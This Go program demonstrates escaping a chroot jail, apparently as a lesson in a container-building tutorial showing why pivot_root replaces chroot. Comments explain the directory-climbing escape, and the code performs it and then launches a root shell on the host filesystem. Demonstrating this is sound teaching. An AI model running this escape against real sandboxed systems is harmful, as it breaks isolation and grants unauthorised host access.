// Command escape leaves a chroot. It is the hole step 1 leaves open, and the
// reason step 3 replaces chroot with pivot_root.
//
// chroot(2) changes one thing: where "/" starts for path lookups. It does not
// move the working directory, and the kernel stops ".." only at the root of the
// process, not at every directory above it. So a process that is root inside
// the chroot can:
//
//  1. make a directory and chroot into it, keeping its working directory
//     outside the new root;
//  2. walk up with chdir("..") from there: the new root is below it, so
//     nothing stops it before the host's real /;
//  3. chroot(".") at the real /, and run a shell there.
//
// Build it static and copy it into a root filesystem: make escape.
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	command := os.Args[1:]
	if len(command) == 0 {
		command = []string{"/bin/sh"}
	}
	if err := escape(); err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(1)
	}
	if err := syscall.Exec(command[0], command, os.Environ()); err != nil {
		fmt.Fprintf(os.Stderr, "escape: exec %s: %v\n", command[0], err)
		os.Exit(1)
	}
}

func escape() error {
	if err := os.MkdirAll("/.escape", 0o700); err != nil {
		return err
	}
	// 1. A new root below the working directory, which stays where it is.
	if err := syscall.Chroot("/.escape"); err != nil {
		return fmt.Errorf("chroot /.escape: %w", err)
	}
	// 2. Our working directory is outside our root now, so ".." is never
	//    clamped: climb until the parent of a directory is itself, the real /.
	for i := 0; i < 256; i++ {
		if err := syscall.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	// 3. Make the real / our root again.
	if err := syscall.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return syscall.Chdir("/")
}
